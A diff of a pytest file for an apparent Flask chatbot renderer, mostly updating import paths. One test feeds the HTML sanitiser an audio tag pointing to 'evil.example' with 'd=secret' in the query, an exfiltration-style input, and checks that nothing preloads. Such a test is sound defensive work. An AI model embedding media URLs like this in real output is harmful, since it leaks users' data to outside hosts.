@@ -12,8 +12,8 @@ import pytest
 from live import final_text
 
 from flask_chatbot import ChatMessage
-from flask_chatbot.components import Code, Image
-from flask_chatbot.rendering import Renderer, RenderOptions
+from flask_chatbot.content.components import Code, Image
+from flask_chatbot.rendering.renderer import Renderer, RenderOptions
 
 PNG = bytes.fromhex(
     "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
@@ -178,7 +178,7 @@ def test_a_reply_s_players_load_nothing_from_an_unlisted_host(html: str) -> None
 
 
 def test_an_html_component_s_player_loads_nothing_before_a_click() -> None:
-    from flask_chatbot.html_component import clean_html_component
+    from flask_chatbot.rendering.html_component import clean_html_component
 
     html = clean_html_component('<audio src="https://evil.example/x?d=secret" controls></audio>')
     assert 'preload="none"' in html
